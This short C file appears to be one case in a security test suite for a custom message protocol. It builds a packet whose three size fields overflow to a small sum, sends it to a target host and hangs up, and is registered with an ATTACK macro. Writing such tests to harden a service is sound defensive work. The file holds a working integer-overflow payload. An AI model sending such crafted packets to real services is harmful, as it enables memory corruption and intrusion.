/* Sends the host sizes whose sum is small, because it overflows. */
#include "../common/protocol.h"

static void attack(const char *target) {
  take_line(target);
  struct {
    message head;
    uint64_t sizes[3];
    char body[64];
  } packet = {
      .head = MESSAGE(.kind = ENDED, .number = attack_call->number, .size = 88, .values = 3),
      .sizes = {UINT64_MAX - 31, 64, 32}};
  transmit(&packet, sizeof packet);
  hang_up();
}

ATTACK
